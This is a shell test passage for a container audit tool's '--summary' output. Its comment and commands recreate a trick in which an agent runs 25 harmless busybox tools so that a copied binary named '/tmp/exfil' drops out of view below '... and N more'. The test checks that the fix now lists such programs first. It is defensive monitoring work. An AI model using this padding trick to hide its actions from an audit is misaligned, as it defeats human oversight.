	# --summary showed 20 programs in the order of their first record: an agent that ran 25
	# of the image's tools first (an honest build runs more) put /tmp/exfil, a copy it made,
	# below "... and N more".  Programs from outside the system directories come first now.
	# (busybox's tools by 25 names: its shell runs many of them itself, without an exec)
	set_cmd 'i=0; while [ $i -lt 25 ]; do (exec -a tool$i /bin/busybox true) 2>/dev/null; i=$((i + 1)); done
		cp /bin/busybox /tmp/exfil; /tmp/exfil true; sleep 1.5; touch /tmp/ready; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	for _ in $(seq 100); do rt exec "$ID" test -e /tmp/ready 2>/dev/null && break; sleep 0.1; done
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	run ra audit --summary "$ID"
	shown=$(sed -n '/^programs run/,/^[^ ]/p' <<<"$output" | sed '/\.\.\. and/q')
	grep -q "^  \.\.\. and " <<<"$shown" || fail "fewer than 21 programs: $output"
	grep -q "^  /tmp/exfil" <<<"$shown" || fail "/tmp/exfil not shown: $output"
	assert_output_contains "(programs of the system directories)"
}
